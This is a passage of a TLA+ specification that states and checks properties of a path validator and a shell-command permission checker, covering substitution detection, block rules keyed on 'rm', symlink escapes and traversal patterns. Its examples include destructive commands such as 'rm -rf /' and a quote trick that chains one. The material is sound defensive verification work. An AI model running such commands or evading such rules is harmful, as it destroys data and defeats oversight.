    /\ NoCommandCall /\ NoConfig
    /\ filePath \in Inputs(PatternFragments, MaxPatternLen) \cup IssueExamples
    /\ workspaceDir = <<>>
    /\ fsys = BaseFs
    /\ pathResult = Undefined
    /\ fsLate = BaseFs
    /\ issues = Undefined
    /\ calls = <<>>

IssueNext == DetectPathSecurityIssues

IssueSpec == IssueInit /\ [][IssueNext]_vars

\* commands that invoke rm or b in every spelling, against block and allow
\* rules keyed on the bare names
RuleInit ==
    /\ pc = "input"
    /\ command \in Inputs(RuleFragments, MaxRuleLen) \cup RuleExamples
    /\ coreTools \in { <<>>, <<ToolRule(RunShellCommand, <<"b">>)>> }
    /\ excludeTools \in { <<>>,
                          <<ToolRule(RunShellCommand, <<"r", "m">>)>>,
                          <<ToolRule(ShellTool, <<"b">>)>> }
    /\ sessionAllowlist \in { NoSessionAllowlist, SessionAllowlistOf({}) }
    /\ NoCommandCall /\ NoPathCall

RuleNext == CheckCommandPermissions

RuleSpec == RuleInit /\ [][RuleNext]_vars

(***************************************************************************)
(* Shell quoting, as the claims about the detector refer to it: a          *)
(* position is live when it is outside single quotes and is not the        *)
(* character a backslash escapes.                                          *)
(***************************************************************************)
RECURSIVE LivePositions(_, _, _)
LivePositions(s, i, state) ==
    IF i > Len(s) THEN {}
    ELSE IF state = "single"
         THEN LivePositions(s, i + 1, IF s[i] = "'" THEN "plain" ELSE "single")
    ELSE IF s[i] = "\\" THEN LivePositions(s, i + 2, state)
    ELSE IF s[i] = "'" /\ state = "plain" THEN LivePositions(s, i + 1, "single")
    ELSE IF s[i] = "\""
         THEN {i} \cup LivePositions(s, i + 1,
                                     IF state = "plain" THEN "double" ELSE "plain")
    ELSE {i} \cup LivePositions(s, i + 1, state)

Live(s) == LivePositions(s, 1, "plain")

\* the positions strictly inside a closed single-quoted region
RECURSIVE SingleQuotedPositions(_, _, _, _)
SingleQuotedPositions(s, i, state, pending) ==
    IF i > Len(s) THEN {}
    ELSE IF state = "single"
         THEN IF s[i] = "'"
              THEN pending \cup SingleQuotedPositions(s, i + 1, "plain", {})
              ELSE SingleQuotedPositions(s, i + 1, state, pending \cup {i})
    ELSE IF s[i] = "\\" THEN SingleQuotedPositions(s, i + 2, state, {})
    ELSE IF s[i] = "'" /\ state = "plain"
         THEN SingleQuotedPositions(s, i + 1, "single", {})
    ELSE IF s[i] = "\""
         THEN SingleQuotedPositions(s, i + 1,
                                    IF state = "plain" THEN "double" ELSE "plain", {})
    ELSE SingleQuotedPositions(s, i + 1, state, {})

SingleQuoted(s) == SingleQuotedPositions(s, 1, "plain", {})

\* a live $( with a closing parenthesis after it
LiveCommandSubstitution(s) ==
    \E i \in Live(s) :
        /\ s[i] = "$"
        /\ CharAt(s, i + 1) = "("
        /\ \E j \in (i + 2)..Len(s) : s[j] = ")"

\* a pair of live backquotes
LiveBacktickPair(s) ==
    \E i, j \in Live(s) : i < j /\ s[i] = Backtick /\ s[j] = Backtick

\* a live $NAME
LiveVariable(s) ==
    \E i \in Live(s) : s[i] = "$" /\ CharAt(s, i + 1) \in NameStart

\* C1: every command with a $(...) substitution, a backquote pair or a bare
\* $NAME outside single quotes and not backslash-escaped is reported by
\* detectCommandSubstitution, unquoted or inside double quotes, anywhere in a
\* chained command.
C1_LiveSubstitutionDetected ==
    (pc = "detected" /\ (\/ LiveCommandSubstitution(command)
                         \/ LiveBacktickPair(command)
                         \/ LiveVariable(command)))
        => detected = TRUE

\* the detector has reported a $NAME inside double quotes, after a separator
C1_Witness ==
    /\ pc = "detected"
    /\ detected = TRUE
    /\ LiveVariable(command)
    /\ \E i, j \in 1..Len(command) :
          i < j /\ command[i] = ";" /\ command[j] = "\""
                /\ CharAt(command, j + 1) = "$"

\* the characters that start a substitution or an escape
SubstitutionChars == {"$", Backtick, "<", ">", "\\"}

\* every dangerous construct of the command lies inside single quotes
OnlySingleQuotedConstructs(s) ==
    /\ \A i \in 1..Len(s) : s[i] \in SubstitutionChars => i \in SingleQuoted(s)
    /\ \E i \in 1..Len(s) : s[i] \in SubstitutionChars

\* C2: a command whose dangerous constructs all lie inside single-quoted
\* regions is not reported by detectCommandSubstitution.
C2_SingleQuotedNotDetected ==
    (pc = "detected" /\ OnlySingleQuotedConstructs(command)) => detected = FALSE

(***************************************************************************)
(* The verdict, and rule matching as the claims state it.                  *)
(***************************************************************************)
IsHardDenial(v) ==
    /\ ~v.allAllowed
    /\ "isHardDenial" \in DOMAIN v
    /\ v.isHardDenial = TRUE

IsSoftDenial(v) ==
    /\ ~v.allAllowed
    /\ "isHardDenial" \in DOMAIN v
    /\ v.isHardDenial = FALSE

\* the sub-command starts with the rule text and is that long or goes on with
\* a space
MatchesRule(c, r) ==
    /\ Len(c) >= Len(r)
    /\ SubSeq(c, 1, Len(r)) = r
    /\ (Len(c) = Len(r) \/ c[Len(r) + 1] = " ")

SubCommands == MapNormalize(splitCommands(command))

BlockPrefixes == { extractCommands(excludeTools)[k] :
                     k \in 1..Len(extractCommands(excludeTools)) }

AllowPrefixes == { extractCommands(coreTools)[k] :
                     k \in 1..Len(extractCommands(coreTools)) }

SessionPrefixes == { normalize(a) : a \in sessionAllowlist.entries }

IsShellToolName(t) == t = RunShellCommand \/ t = ShellTool

BlockWildcard == \E k \in 1..Len(excludeTools) : IsShellToolName(excludeTools[k])

AllowWildcard == \E k \in 1..Len(coreTools) : IsShellToolName(coreTools[k])

BlockedAt(k) == \E r \in BlockPrefixes : MatchesRule(SubCommands[k], r)

SomeBlocked == \E k \in 1..Len(SubCommands) : BlockedAt(k)

\* C3: whenever the detector reports the command, the verdict is the hard
\* denial of the raw command with the substitution reason, whatever the
\* configuration and the session allowlist are.
C3_DetectorIsHardDenial ==
    (pc = "done" /\ detectCommandSubstitution(command))
        => /\ IsHardDenial(verdict)
           /\ verdict.disallowedCommands = <<command>>
           /\ verdict.blockReason = ReasonSubstitution

\* a chained command with a substitution is denied although the shell tool is
\* allowed by wildcard
C3_Witness ==
    /\ pc = "done"
    /\ command = ExampleChainedSubstitution
    /\ AllowWildcard
    /\ sessionAllowlist.present
    /\ IsHardDenial(verdict)
    /\ verdict.blockReason = ReasonSubstitution

\* C4: if a block rule matches any sub-command of the command, the verdict is a
\* hard denial, also when that sub-command is on the session allowlist, matches
\* a global allow rule, or the shell tool is allowed by wildcard.
C4_BlockBeatsAllow ==
    (pc = "done" /\ SomeBlocked) => IsHardDenial(verdict)

\* the second sub-command is blocked and hard-denied although the session
\* allowlist and a global allow rule both match it
C4_Witness ==
    /\ pc = "done"
    /\ ~detectCommandSubstitution(command)
    /\ Len(SubCommands) = 2
    /\ ~BlockedAt(1)
    /\ BlockedAt(2)
    /\ \E r \in SessionPrefixes : MatchesRule(SubCommands[2], r)
    /\ \E r \in AllowPrefixes : MatchesRule(SubCommands[2], r)
    /\ IsHardDenial(verdict)
    /\ verdict.disallowedCommands = <<SubCommands[2]>>

\* the sub-commands that match neither a session entry nor a global allow rule
UnmatchedDefaultDeny ==
    LET unmatched(c) ==
            /\ ~\E r \in SessionPrefixes : MatchesRule(c, r)
            /\ ~\E r \in AllowPrefixes : MatchesRule(c, r)
    IN SelectSeq(SubCommands, unmatched)

\* the detector, the block wildcard, the block rules and the allow wildcard
\* have all let the command through
ReachesModeBranch ==
    /\ pc = "done"
    /\ ~detectCommandSubstitution(command)
    /\ ~BlockWildcard
    /\ ~SomeBlocked
    /\ ~AllowWildcard

\* C5: in default-deny mode (a session allowlist is passed, even an empty one)
\* the verdict is the soft denial that lists, in order, exactly the normalized
\* sub-commands matching neither list, and full allow if there is none.
C5_DefaultDenyListsUnmatched ==
    (ReachesModeBranch /\ sessionAllowlist.present)
        => IF UnmatchedDefaultDeny = <<>>
           THEN verdict.allAllowed /\ verdict.disallowedCommands = <<>>
           ELSE /\ IsSoftDenial(verdict)
                /\ verdict.disallowedCommands = UnmatchedDefaultDeny

\* of three sub-commands the session allowlist matches one, a global rule
\* another, and the soft denial lists only the third
C5_Witness ==
    /\ ReachesModeBranch
    /\ sessionAllowlist.present
    /\ Len(SubCommands) >= 2
    /\ \E k \in 1..Len(SubCommands) :
          /\ \E r \in AllowPrefixes : MatchesRule(SubCommands[k], r)
          /\ ~\E r \in SessionPrefixes : MatchesRule(SubCommands[k], r)
    /\ Len(UnmatchedDefaultDeny) = 1
    /\ IsSoftDenial(verdict)
    /\ verdict.disallowedCommands = UnmatchedDefaultDeny

\* the sub-commands that match no global allow rule
UnmatchedDefaultAllow ==
    LET unmatched(c) == ~\E r \in AllowPrefixes : MatchesRule(c, r)
    IN SelectSeq(SubCommands, unmatched)

\* C6: in default-allow mode (no session allowlist), with a non-empty set of
\* extracted global allow rules every sub-command matching none of them is
\* soft-denied and listed; with an empty set the command is fully allowed.
C6_DefaultAllow ==
    (ReachesModeBranch /\ ~sessionAllowlist.present)
        => IF AllowPrefixes # {} /\ UnmatchedDefaultAllow # <<>>
           THEN /\ IsSoftDenial(verdict)
                /\ verdict.disallowedCommands = UnmatchedDefaultAllow
           ELSE verdict.allAllowed /\ verdict.disallowedCommands = <<>>

\* coreTools names only another tool, so that no allow rule is extracted, and
\* a command is fully allowed
C6_Witness ==
    /\ ReachesModeBranch
    /\ ~sessionAllowlist.present
    /\ coreTools # <<>>
    /\ AllowPrefixes = {}
    /\ Len(SubCommands) = 2
    /\ verdict = FullAllow

\* C7: if excludeTools holds the bare shell-tool name, every command that
\* passes the detector is hard-denied with all its normalized sub-commands
\* listed, whatever coreTools and the session allowlist are.
C7_BlockWildcard ==
    (pc = "done" /\ ~detectCommandSubstitution(command) /\ BlockWildcard)
        => /\ IsHardDenial(verdict)
           /\ verdict.disallowedCommands = SubCommands

\* the shell tool is disabled and a two-command chain on the session allowlist
\* is hard-denied
C7_Witness ==
    /\ pc = "done"
    /\ BlockWildcard
    /\ AllowPrefixes # {}
    /\ sessionAllowlist.present
    /\ Len(SubCommands) = 2
    /\ \A k \in 1..2 : \E r \in SessionPrefixes : MatchesRule(SubCommands[k], r)
    /\ IsHardDenial(verdict)
    /\ verdict.disallowedCommands = SubCommands

\* C8: if coreTools holds the bare shell-tool name, every command that passed
\* the detector, the block wildcard and the block rules is fully allowed, in
\* both modes.
C8_AllowWildcard ==
    (/\ pc = "done"
     /\ ~detectCommandSubstitution(command)
     /\ ~BlockWildcard
     /\ ~SomeBlocked
     /\ AllowWildcard)
        => verdict.allAllowed /\ verdict.disallowedCommands = <<>>

\* the wildcard allows a command that the supplied session allowlist does not
\* contain
C8_Witness ==
    /\ pc = "done"
    /\ AllowWildcard
    /\ sessionAllowlist.present
    /\ Len(SubCommands) >= 1
    /\ \A k \in 1..Len(SubCommands) :
          ~\E r \in SessionPrefixes : MatchesRule(SubCommands[k], r)
    /\ verdict = FullAllow

(***************************************************************************)
(* The tokenizer's quote flags by position, as the specification states    *)
(* them: a backslash outside single quotes takes the next character with   *)
(* it, a quote character toggles its flag unless the other flag is set.    *)
(* seps are the positions of the separator characters met while neither    *)
(* flag is set; escapedInSingle tells whether a backslash that has a next  *)
(* character is met while the single-quote flag is set.                    *)
(***************************************************************************)
SeparatorChars == {";", "&", "|"}

RECURSIVE QuoteScan(_, _, _, _)
QuoteScan(s, i, sq, dq) ==
    IF i > Len(s) THEN [seps |-> {}, escapedInSingle |-> FALSE]
    ELSE IF s[i] = "\\" /\ i < Len(s)
         THEN LET rest == QuoteScan(s, i + 2, sq, dq)
              IN [seps |-> rest.seps,
                  escapedInSingle |-> sq \/ rest.escapedInSingle]
    ELSE IF s[i] = "'" /\ ~dq THEN QuoteScan(s, i + 1, ~sq, dq)
    ELSE IF s[i] = "\"" /\ ~sq THEN QuoteScan(s, i + 1, sq, ~dq)
    ELSE LET rest == QuoteScan(s, i + 1, sq, dq)
         IN IF s[i] \in SeparatorChars /\ ~sq /\ ~dq
            THEN [seps |-> rest.seps \cup {i},
                  escapedInSingle |-> rest.escapedInSingle]
            ELSE rest

TopLevelSeparators(s) == QuoteScan(s, 1, FALSE, FALSE).seps

EscapeInsideSingleQuotes(s) == QuoteScan(s, 1, FALSE, FALSE).escapedInSingle

SetMin(S) == CHOOSE x \in S : \A y \in S : x <= y

\* the trimmed, non-empty pieces of s between the positions seps, from start on
RECURSIVE PiecesFrom(_, _, _)
PiecesFrom(s, seps, start) ==
    IF start > Len(s) THEN <<>>
    ELSE LET later == { x \in seps : x >= start }
             end == IF later = {} THEN Len(s) + 1 ELSE SetMin(later)
             piece == Trim(SubSeq(s, start, end - 1))
         IN (IF piece = <<>> THEN <<>> ELSE <<piece>>)
                \o PiecesFrom(s, seps, end + 1)

CanonicalRoot == ResolvedWorkspace(fsys, workspaceDir)

\* the root's components are a prefix of the path's
InsideRoot(p, root) ==
    LET pathComps == SplitPath(p)
        rootComps == SplitPath(root)
    IN /\ Len(rootComps) <= Len(pathComps)
       /\ SubSeq(pathComps, 1, Len(rootComps)) = rootComps

\* what the candidate resolves to against the workspace directory
ResolvedCandidate == pathResolve(workspaceDir, filePath)

OutsideWorkspaceErrors == {MsgTraversal, MsgSymlink}

\* the candidate gets as far as path resolution
PassesPatternChecks(p) ==
    /\ p # <<>>
    /\ \A i \in 1..Len(p) : p[i] # NullByte
    /\ ~suspiciousPatterns(p)

\* C10 as stated: an accepted path is the canonical root or starts with the
\* root and a separator, and every candidate that resolves outside the root is
\* rejected with an 'outside workspace' error.
C10_OutsideRejectedAsOutside ==
    pc = "validated"
        => /\ pathResult.isValid
                => \/ pathResult.sanitizedPath = CanonicalRoot
                   \/ StartsWith(pathResult.sanitizedPath, CanonicalRoot \o <<Sep>>)
           /\ (filePath # <<>> /\ ~InsideRoot(ResolvedCandidate, CanonicalRoot))
                => /\ ~pathResult.isValid
                   /\ pathResult.error \in OutsideWorkspaceErrors

\* C10 (amended): an accepted path is the canonical root or starts with the
\* root and a separator; every candidate that resolves outside the root is
\* rejected, with an 'outside workspace' error if it passed the empty, null
\* byte and suspicious-pattern checks.
C10_AcceptedInsideRoot ==
    pc = "validated"
        => /\ pathResult.isValid
                => \/ pathResult.sanitizedPath = CanonicalRoot
                   \/ StartsWith(pathResult.sanitizedPath, CanonicalRoot \o <<Sep>>)
           /\ ~InsideRoot(ResolvedCandidate, CanonicalRoot)
                => /\ ~pathResult.isValid
                   /\ PassesPatternChecks(filePath)
                        => pathResult.error \in OutsideWorkspaceErrors

\* the workspace root does not exist and is normalised lexically; a sibling
\* directory whose name has the root as a string prefix is rejected as outside
C10_Witness ==
    /\ pc = "validated"
    /\ ~realpathSync(fsys, workspaceDir).ok
    /\ CanonicalRoot = DirMissing
    /\ StartsWith(filePath, DirMissing)
    /\ Len(filePath) > Len(DirMissing)
    /\ filePath[Len(DirMissing) + 1] \in LowerCase
    /\ PassesPatternChecks(filePath)
    /\ ~pathResult.isValid
    /\ pathResult.error = MsgTraversal

(***************************************************************************)
(* Symbolic links inside the workspace.                                    *)
(***************************************************************************)
\* the entry the resolved candidate names, a final symbolic link not followed
CandidateEntry ==
    Walk(fsys, <<>>, SplitPath(ResolvedCandidate), FALSE, MaxSymlinkFollows)

\* where the resolved candidate leads once every symbolic link is followed
CandidateTarget ==
    Walk(fsys, <<>>, SplitPath(ResolvedCandidate), TRUE, MaxSymlinkFollows)

\* the candidate names an existing symbolic link whose literal path is inside
\* the canonical root and whose fully resolved target exists outside it
EscapingSymlink ==
    /\ filePath # <<>>
    /\ InsideRoot(ResolvedCandidate, CanonicalRoot)
    /\ CandidateEntry.ok
    /\ CandidateEntry.path \in DOMAIN fsys
    /\ fsys[CandidateEntry.path].type = "link"
    /\ CandidateTarget.ok
    /\ ~InsideRoot(CandidateTarget.path, CanonicalRoot)

\* C11: a candidate that resolves to an existing symbolic link inside the
\* workspace whose fully resolved target is outside the canonical workspace
\* root is rejected, although its literal path passes the containment check.
C11_EscapingSymlinkRejected ==
    (pc = "validated" /\ EscapingSymlink) => ~pathResult.isValid

\* /w/a is a link to a file or directory under /e; the candidate passes the
\* pattern and containment checks and is rejected by the symlink check
C11_Witness ==
    /\ pc = "validated"
    /\ EscapingSymlink
    /\ PassesPatternChecks(filePath)
    /\ WithinWorkspace(ResolvedCandidate, CanonicalRoot)
    /\ ~pathResult.isValid
    /\ pathResult.error = MsgSymlink

(***************************************************************************)
(* The pattern battery, read off the path's text.                          *)
(***************************************************************************)
\* ../ or ..\ anywhere, /.. or \.. at the end, or the path ..
HasParentReference(s) ==
    \/ \E i \in 1..Len(s) :
          /\ i + 2 <= Len(s)
          /\ s[i] = "." /\ s[i + 1] = "." /\ s[i + 2] \in {"/", "\\"}
    \/ /\ Len(s) >= 3
       /\ s[Len(s) - 2] \in {"/", "\\"} /\ s[Len(s) - 1] = "." /\ s[Len(s)] = "."
    \/ s = <<".", ".">>

\* ~/ or ~\ anywhere
HasHomeReference(s) ==
    \E i \in 1..Len(s) : i + 1 <= Len(s) /\ s[i] = "~" /\ s[i + 1] \in {"/", "\\"}

\* $VAR, or ${VAR} with its closing brace
HasEnvSyntax(s) ==
    \E i \in 1..Len(s) :
       /\ s[i] = "$"
       /\ \/ i + 1 <= Len(s) /\ s[i + 1] \in WordChars
          \/ /\ i + 1 <= Len(s) /\ s[i + 1] = "{"
             /\ \E j \in (i + 3)..Len(s) :
                   /\ s[j] = "}"
                   /\ \A k \in (i + 2)..(j - 1) : s[k] \in WordChars

\* % and two hex digits
HasPercentEncodedByte(s) ==
    \E i \in 1..Len(s) :
       /\ i + 2 <= Len(s)
       /\ s[i] = "%" /\ s[i + 1] \in HexDigits /\ s[i + 2] \in HexDigits

\* \x and two hex digits
HasHexEscape(s) ==
    \E i \in 1..Len(s) :
       /\ i + 3 <= Len(s)
       /\ s[i] = "\\" /\ s[i + 1] = "x"
       /\ s[i + 2] \in HexDigits /\ s[i + 3] \in HexDigits

HasListedPattern(s) ==
    \/ HasParentReference(s)
    \/ HasHomeReference(s)
    \/ HasEnvSyntax(s)
    \/ HasPercentEncodedByte(s)
    \/ HasHexEscape(s)

\* C12: a candidate containing a parent-directory reference, a home
\* reference, variable syntax, a percent-encoded byte or a hex escape is
\* rejected by the checks that precede path resolution, also when it would
\* lexically resolve inside the workspace.
C12_ListedPatternRejected ==
    (pc = "validated" /\ HasListedPattern(filePath))
        => /\ ~pathResult.isValid
           /\ pathResult.error \in {MsgNullBytes, MsgSuspicious}

\* a/../b resolves to /w/b, inside the workspace, and is rejected for its
\* pattern
C12_Witness ==
    /\ pc = "validated"
    /\ filePath = ExampleInnerParent
    /\ workspaceDir = DirW
    /\ InsideRoot(ResolvedCandidate, CanonicalRoot)
    /\ ~pathResult.isValid
    /\ pathResult.error = MsgSuspicious

(***************************************************************************)
(* Re-validation of an accepted path.                                      *)
(***************************************************************************)
\* C13: path validation is idempotent: the sanitized path of an accepted
\* candidate, validated again against the same workspace root and
\* filesystem, is accepted with itself as sanitized path.
C13_RevalidationIdempotent ==
    pc = "revalidated"
        => /\ pathResult.isValid
           /\ pathResult.sanitizedPath = filePath

(***************************************************************************)
(* The shape of what the entry points return.                              *)
(***************************************************************************)
\* a failure with a non-empty error and nothing else, or a success with a
\* sanitized path and no error
IsPathResult(r) ==
    \/ /\ DOMAIN r = {"isValid", "error"}
       /\ r.isValid = FALSE
       /\ r.error # ""
    \/ /\ DOMAIN r = {"isValid", "sanitizedPath"}
       /\ r.isValid = TRUE
       /\ IsAbsolute(r.sanitizedPath)

\* a verdict of the permission resolver
IsVerdict(v) ==
    /\ {"allAllowed", "disallowedCommands"} \subseteq DOMAIN v
    /\ v.allAllowed \in BOOLEAN
    /\ v.allAllowed => v.disallowedCommands = <<>>

\* C14: no entry point throws: validateAndSanitizePath, validateReadPath and
\* validateWritePath return a result record for every input (empty, null or
\* non-string path, missing workspace, a filesystem lookup that fails during
\* the check), a failure with a non-empty error or a success with a sanitized
\* path and no error; checkCommandPermissions returns a verdict record for
\* every command string.
C14_EntryPointsReturnRecords ==
    /\ pc \in {"validated", "readValidated", "writeValidated"}
          => IsPathResult(pathResult)
    /\ pc = "done" => IsVerdict(verdict)

\* the workspace argument is missing: realpathSync and path.resolve throw and
\* the outer catch turns the exception into a failure
C14_Witness ==
    /\ pc = "validated"
    /\ IsString(filePath)
    /\ workspaceDir = JsUndefined
    /\ ~pathResult.isValid
    /\ pathResult.error = MsgFailed

Followed(p) == Walk(fsys, <<>>, SplitPath(p), TRUE, MaxSymlinkFollows)

Exists(p) == Followed(p).ok

IsDirectoryAt(p) == Exists(p) /\ NodeAt(fsys, Followed(p).path).type = "dir"

Permits(p, flag) == Exists(p) /\ flag \in Mode(NodeAt(fsys, Followed(p).path))

BaseValidation == validateAndSanitizePath(filePath, workspaceDir, fsys, fsys)

\* C16: validateReadPath accepts only if the base validation accepts and the
\* sanitized path exists, is not a directory and is readable;
\* validateWritePath accepts only if the base validation accepts, the parent
\* directory exists and is writable and the target, if it exists, is not a
\* directory and is writable; on success both return the base validation's
\* sanitized path and on base failure the base failure unchanged.
C16_ReadWriteConditions ==
    fsLate = fsys =>
      /\ pc \in {"readValidated", "writeValidated"}
            => /\ ~BaseValidation.isValid => pathResult = BaseValidation
               /\ pathResult.isValid
                     => /\ BaseValidation.isValid
                        /\ pathResult.sanitizedPath = BaseValidation.sanitizedPath
      /\ (pc = "readValidated" /\ pathResult.isValid)
            => /\ Exists(pathResult.sanitizedPath)
               /\ ~IsDirectoryAt(pathResult.sanitizedPath)
               /\ Permits(pathResult.sanitizedPath, "r")
      /\ (pc = "writeValidated" /\ pathResult.isValid)
            => /\ IsDirectoryAt(pathDirname(pathResult.sanitizedPath))
               /\ Permits(pathDirname(pathResult.sanitizedPath), "w")
               /\ Exists(pathResult.sanitizedPath)
                     => /\ ~IsDirectoryAt(pathResult.sanitizedPath)
                        /\ Permits(pathResult.sanitizedPath, "w")

(***************************************************************************)
(* The first word of a sub-command.                                        *)
(***************************************************************************)
\* the sub-command without its leading whitespace
Unindented(s) ==
    IF \A i \in 1..Len(s) : s[i] \in WhiteSpace THEN <<>>
    ELSE SubSeq(s, CHOOSE i \in 1..Len(s) :
                      /\ s[i] \notin WhiteSpace
                      /\ \A k \in 1..(i - 1) : s[k] \in WhiteSpace,
                Len(s))

\* the first word is q, a non-empty text without q, and q, followed by
\* whitespace or by nothing: the index of the closing quote, 0 otherwise
ClosingQuote(s, q) ==
    IF \E j \in 3..Len(s) :
          /\ s[1] = q /\ s[j] = q
          /\ \A k \in 2..(j - 1) : s[k] # q
          /\ (j = Len(s) \/ s[j + 1] \in WhiteSpace)
    THEN CHOOSE j \in 3..Len(s) :
            /\ s[1] = q /\ s[j] = q
            /\ \A k \in 2..(j - 1) : s[k] # q
    ELSE 0

\* the end of the text before the first whitespace
TokenEnd(s) ==
    CHOOSE n \in 0..Len(s) :
       /\ \A k \in 1..n : s[k] \notin WhiteSpace
       /\ (n = Len(s) \/ s[n + 1] \in WhiteSpace)

\* the first word is bare: it holds no quote
BareFirstWord(s) ==
    /\ TokenEnd(s) > 0
    /\ \A k \in 1..TokenEnd(s) : s[k] \notin {"\"", "'"}

\* the part of a word after its last slash or backslash
AfterLastSlash(w) ==
    SubSeq(w,
           CHOOSE i \in 1..(Len(w) + 1) :
              /\ \A k \in i..Len(w) : w[k] \notin {"/", "\\"}
              /\ (i = 1 \/ w[i - 1] \in {"/", "\\"}),
           Len(w))

\* C17: for a sub-command whose first word is double-quoted, single-quoted
\* or bare, getCommandRoot returns that word without its quotes, reduced to
\* the segment after its last slash or backslash; for an empty or
\* whitespace-only sub-command it returns undefined.
C17_RootOfFirstWord ==
    pc = "rooted" =>
      LET s == Unindented(command)
      IN /\ s = <<>> => commandRoot = JsUndefined
         /\ (s # <<>> /\ ClosingQuote(s, "\"") # 0)
               => commandRoot =
                     AfterLastSlash(SubSeq(s, 2, ClosingQuote(s, "\"") - 1))
         /\ (s # <<>> /\ ClosingQuote(s, "'") # 0)
               => commandRoot =
                     AfterLastSlash(SubSeq(s, 2, ClosingQuote(s, "'") - 1))
         /\ (s # <<>> /\ BareFirstWord(s))
               => commandRoot = AfterLastSlash(SubSeq(s, 1, TokenEnd(s)))

\* "/usr/bin/git" status gives git
C17_Witness ==
    /\ pc = "rooted"
    /\ command = ExampleQuotedGitPath
    /\ ClosingQuote(Unindented(command), "\"") # 0
    /\ commandRoot = <<"g", "i", "t">>

(***************************************************************************)
(* The issues of a path, read off its text.                                *)
(***************************************************************************)
\* $ followed by an optional ( or { and a word character
HasVariableReference(s) ==
    \E i \in 1..Len(s) :
       /\ s[i] = "$"
       /\ \/ i + 1 <= Len(s) /\ s[i + 1] \in WordChars
          \/ /\ i + 2 <= Len(s)
             /\ s[i + 1] \in {"(", "{"}
             /\ s[i + 2] \in WordChars

\* the messages of the conditions that hold for the path
ExpectedIssues(s) ==
    (IF \E i \in 1..(Len(s) - 1) : s[i] = "." /\ s[i + 1] = "."
     THEN {IssueMessages.parent} ELSE {})
    \cup (IF \E i \in 1..Len(s) : s[i] = NullByte
          THEN {IssueMessages.nul} ELSE {})
    \cup (IF \E i \in 1..Len(s) : s[i] \in ControlChars
          THEN {IssueMessages.control} ELSE {})
    \cup (IF \E i \in 1..Len(s) : s[i] = "~"
          THEN {IssueMessages.home} ELSE {})
    \cup (IF HasVariableReference(s) THEN {IssueMessages.env} ELSE {})
    \cup (IF HasPercentEncodedByte(s) THEN {IssueMessages.url} ELSE {})
    \cup (IF HasHexEscape(s) THEN {IssueMessages.hex} ELSE {})
    \cup (IF Len(s) >= SafePathLength + 1 THEN {IssueMessages.length} ELSE {})

\* C18: detectPathSecurityIssues returns one message for each condition that
\* holds (a parent reference, a null byte, a control character, a tilde, a
\* variable reference, a percent-encoded byte, a hex escape, a length above
\* 4096) and nothing else, so the empty list exactly when none holds; a path
\* of exactly 4096 characters is not reported as too long.
C18_OneMessagePerIssue ==
    pc = "inspected"
        => /\ { issues[i] : i \in DOMAIN issues } = ExpectedIssues(filePath)
           /\ Len(issues) = Cardinality(ExpectedIssues(filePath))
           /\ Len(filePath) = SafePathLength
                 => \A i \in DOMAIN issues : issues[i] # IssueMessages.length

\* a path with a parent reference and a NUL gets the three messages of the
\* conditions that hold
C18_Witness ==
    /\ pc = "inspected"
    /\ Len(filePath) <= MaxPatternLen + 1
    /\ Includes(filePath, DotDotComp)
    /\ Includes(filePath, <<NullByte>>)
    /\ ~Includes(filePath, <<"~">>)
    /\ issues = <<IssueMessages.parent, IssueMessages.nul, IssueMessages.control>>

(***************************************************************************)
(* Quoting with the backslash literal inside single quotes: a backslash    *)
(* takes the next character with it only while the single-quote flag is    *)
(* clear.                                                                  *)
(***************************************************************************)
RECURSIVE LiteralBackslashSeparators(_, _, _, _)
LiteralBackslashSeparators(s, i, sq, dq) ==
    IF i > Len(s) THEN {}
    ELSE IF s[i] = "\\" /\ ~sq /\ i < Len(s)
         THEN LiteralBackslashSeparators(s, i + 2, sq, dq)
    ELSE IF s[i] = "'" /\ ~dq
         THEN LiteralBackslashSeparators(s, i + 1, ~sq, dq)
    ELSE IF s[i] = "\"" /\ ~sq
         THEN LiteralBackslashSeparators(s, i + 1, sq, ~dq)
    ELSE (IF s[i] \in SeparatorChars /\ ~sq /\ ~dq THEN {i} ELSE {})
            \cup LiteralBackslashSeparators(s, i + 1, sq, dq)

\* C19: splitCommands treats a backslash as an escape only outside single
\* quotes: inside a single-quoted region the backslash is literal, the next
\* quote closes the region and a later top-level separator splits the
\* command; echo 'a\' ; rm -rf / yields echo 'a\' and rm -rf /.
C19_BackslashLiteralInSingleQuotes ==
    (pc = "split" /\ EscapeInsideSingleQuotes(command))
        => /\ commands =
                 PiecesFrom(command,
                            LiteralBackslashSeparators(command, 1, FALSE, FALSE),
                            1)
           /\ command = ExampleEscapedQuote
                 => commands = <<EchoEscapedQuote, RmRfRoot>>

(***************************************************************************)
(* Rules keyed on a bare command name.                                     *)
(***************************************************************************)
\* the rule text is a command name without quotes, path or arguments
BareName(r) == r # <<>> /\ getCommandRoot(r) = r

\* sub-command k invokes the executable that a bare rule of the set names
InvokesOneOf(k, rules) ==
    \E r \in rules : BareName(r) /\ getCommandRoot(SubCommands[k]) = r

\* C20: a block rule keyed on a bare command name matches every invocation
\* of that executable, however it is quoted or path-qualified, and gives the
\* hard denial (with block rule rm: /bin/rm -rf x, 'rm' -rf x and "rm" -rf x
\* like rm -rf x); an allow rule keyed on a bare name allows every such
\* invocation.
C20_BareRuleMatchesEveryInvocation ==
    pc = "done" =>
      /\ (\E k \in 1..Len(SubCommands) : InvokesOneOf(k, BlockPrefixes))
            => IsHardDenial(verdict)
      /\ ( /\ ~detectCommandSubstitution(command)
           /\ ~BlockWildcard
           /\ \A k \in 1..Len(SubCommands) :
                 /\ ~InvokesOneOf(k, BlockPrefixes)
                 /\ InvokesOneOf(k, AllowPrefixes) )
            => verdict.allAllowed

(***************************************************************************)
(* Where an accepted path leads.                                           *)
(***************************************************************************)
\* the location the kernel reaches when it follows the sanitized path with
\* every symbolic link resolved: the entry found or, when a name on the way
\* does not exist (a dangling link's target, a file to be created), that name
Destination ==
    Walk(fsys, <<>>, SplitPath(pathResult.sanitizedPath), TRUE, MaxSymlinkFollows).path

\* the sanitized path runs through a symbolic link that is not its last name
ThroughLinkedDirectory ==
    \E k \in 1..(Len(SplitPath(pathResult.sanitizedPath)) - 1) :
        LET prefix == JoinAbs(SubSeq(SplitPath(pathResult.sanitizedPath), 1, k))
        IN prefix \in DOMAIN fsys /\ fsys[prefix].type = "link"

\* the sanitized path names a symbolic link whose target does not exist
DanglingFinalLink ==
    /\ pathResult.sanitizedPath \in DOMAIN fsys
    /\ fsys[pathResult.sanitizedPath].type = "link"
    /\ ~existsSync(fsys, pathResult.sanitizedPath)

\* C21: whenever validateAndSanitizePath accepts a candidate, the location
\* reached by following sanitizedPath with all symbolic links resolved, a
